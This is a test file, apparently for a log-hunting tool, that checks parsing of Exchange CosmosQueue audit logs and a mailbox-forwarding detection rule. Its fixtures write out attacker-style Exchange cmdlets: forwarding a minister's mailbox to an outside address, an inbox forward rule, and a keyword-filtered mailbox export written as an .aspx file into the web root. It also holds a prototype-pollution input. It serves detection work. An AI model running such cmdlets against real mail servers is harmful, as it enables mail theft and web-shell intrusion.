/**
 * Exchange CosmosQueue admin audit local queue (Logging\LocalQueue\Exchange\audit*.LOG, `#Log-type: audit`): the
 * audited cmdlet run is a JSON object in the `Data` column. The reader expands it into `Data.*` fields and the
 * cmdlet view turns it into Cmdlet / CmdletParameters / CmdletParameter.* / CmdletUser, so rules written on the
 * cmdlet view (e.g. mailbox forwarding) fire on it.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { VigieEvent } from '../../src/event.js';
import { ReadContext, readFile } from '../../src/sources/index.js';
import { applyTransforms } from '../../src/transforms/index.js';
import { FIXTURES, ROOT } from '../helpers.js';
import { describe, huntWith } from '../rules/pack-helpers.js';

const FIXTURE = join(FIXTURES, 'logs', 'exchange', 'audit20240301-1.LOG');

async function readAll(path: string): Promise<{ events: VigieEvent[]; ctx: ReadContext; formats: string[] }> {
  const ctx = new ReadContext();
  const events: VigieEvent[] = [];
  for await (const ev of readFile(path, ctx)) events.push(applyTransforms(ev));
  return { events, ctx, formats: [...ctx.formats.keys()] };
}

test('CosmosQueue audit log: detected, Data JSON expanded, cmdlet view filled', async () => {
  const { events, ctx, formats } = await readAll(FIXTURE);
  assert.deepEqual(formats, ['exchange-csv']);
  assert.equal(ctx.errorCount, 0);
  assert.equal(events.length, 3);
  const [fwd, exp, perm] = events;
  assert.deepEqual(fwd.logsource, { product: 'exchange', service: 'cosmosqueue' });
  assert.equal(fwd.channel, 'MSExchange CosmosQueue');
  assert.equal(fwd.computer, 'EXCH01');
  assert.equal(fwd.time, Date.UTC(2024, 2, 1, 9, 20, 11, 514));
  // the reader's expansion of Data
  assert.equal(fwd.fields['Data.Operation'], 'Set-Mailbox');
  assert.equal(fwd.fields['Data.Parameters.ForwardingSmtpAddress'], 'smtp:m.office.archive@proton-mailer.example');
  assert.equal(typeof fwd.fields.Data, 'string', 'the raw Data text stays for keyword rules');
  // the cmdlet view
  assert.equal(fwd.fields.Cmdlet, 'Set-Mailbox');
  assert.equal(fwd.fields['CmdletParameter.ForwardingSmtpAddress'], 'smtp:m.office.archive@proton-mailer.example');
  assert.equal(fwd.fields['CmdletParameter.Identity'], 'minister.office@corp.example');
  assert.equal(fwd.fields['CmdletParameter.DeliverToMailboxAndForward'], 'True');
  assert.match(String(fwd.fields.CmdletParameters), /-ForwardingSmtpAddress "smtp:m\.office\.archive@proton-mailer\.example"/);
  assert.equal(fwd.fields.CmdletUser, 'CORP\\svc-mig');
  assert.equal(fwd.fields.CmdletOrigin, 'cosmosqueue');
  assert.equal(fwd.fields.CmdletProcess, 'w3wp');
  assert.equal(fwd.fields.CmdletSucceeded, true);

  assert.equal(exp.fields.Cmdlet, 'New-MailboxExportRequest');
  assert.equal(exp.fields['CmdletParameter.ContentFilter'], "(Subject -like '*summit*') -or (Body -like '*G20*')");
  assert.equal(exp.fields['CmdletParameter.FilePath'], '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\a.aspx');

  assert.equal(perm.fields.Cmdlet, 'Add-MailboxPermission');
  assert.equal(perm.fields['CmdletParameter.AccessRights'], 'FullAccess');
  assert.equal(perm.fields.CmdletSucceeded, false);
});

test('CosmosQueue: other column orders, admin-audit key names, text Data, and broken Data', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigie-cosmos-'));
  try {
    const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const p = join(dir, 'audit20240302-1.LOG');
    writeFileSync(p, [
      '#Software: Microsoft Exchange', '#Version: 15.01.2507.006', '#Log-type: audit',
      '#Fields: Timestamp,Server,TenantId,RecordType,Data',
      // admin audit log key names, parameters as a PowerShell text
      `2024-03-02T08:00:00.000Z,EXCH02,,1,${q(JSON.stringify({ CmdletName: 'Set-Mailbox', CmdletParameters: "-Identity 'bob' -ForwardingSmtpAddress 'x@evil.example'", Caller: 'CORP\\eve', Succeeded: true }))}`,
      // Data as plain text
      `2024-03-02T08:01:00.000Z,EXCH02,,1,${q("New-InboxRule -Mailbox ceo -Name x -ForwardTo 'y@evil.example'")}`,
      // Data that is not JSON nor a cmdlet: read, no cmdlet view
      `2024-03-02T08:02:00.000Z,EXCH02,,1,${q('{"Operation": "Set-Mailbox", ')}`,
      `2024-03-02T08:03:00.000Z,EXCH02,,1,${q('hello world')}`,
      // a prototype name where the cmdlet goes: no cmdlet view, no crash
      `2024-03-02T08:04:00.000Z,EXCH02,,1,${q(JSON.stringify({ Operation: 'constructor', Parameters: [{ Name: '__proto__', Value: 'x' }] }))}`,
      // deep nesting inside Data
      `2024-03-02T08:05:00.000Z,EXCH02,,1,${q(`{"Operation":"Set-Mailbox","x":${'['.repeat(50_000)}${']'.repeat(50_000)}}`)}`,
    ].join('\r\n'));
    const { events, ctx } = await readAll(p);
    assert.equal(ctx.errorCount, 0);
    assert.equal(events.length, 6);
    assert.ok(events.every((e) => e.logsource.service === 'cosmosqueue'));
    const [a, b, c, d, e, f] = events;
    assert.equal(a.fields.Cmdlet, 'Set-Mailbox');
    assert.equal(a.fields['CmdletParameter.ForwardingSmtpAddress'], 'x@evil.example');
    assert.equal(a.fields.CmdletUser, 'CORP\\eve');
    assert.equal(a.fields.CmdletSucceeded, true);
    assert.equal(b.fields.Cmdlet, 'New-InboxRule');
    assert.equal(b.fields['CmdletParameter.ForwardTo'], 'y@evil.example');
    assert.equal(c.fields.Cmdlet, undefined);
    assert.equal(d.fields.Cmdlet, undefined);
    assert.equal(e.fields.Cmdlet, undefined);
    assert.equal(f.fields.Cmdlet, 'Set-Mailbox');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the mailbox forwarding rule fires on the CosmosQueue record, not on the export', async () => {
  const res = await huntWith([FIXTURE], [join(ROOT, 'rules', 'preparation', 'exchange_mailbox_forwarding.yml')]);
  assert.equal(res.summary.records, 3, describe(res));
  assert.equal(res.detections.length, 1, describe(res));
  const d = res.detections[0];
  assert.equal(d.format, 'exchange-csv');
  assert.equal(d.record, 6, 'the Set-Mailbox line');
  assert.match(JSON.stringify(d.details), /m\.office\.archive@proton-mailer\.example/);
});
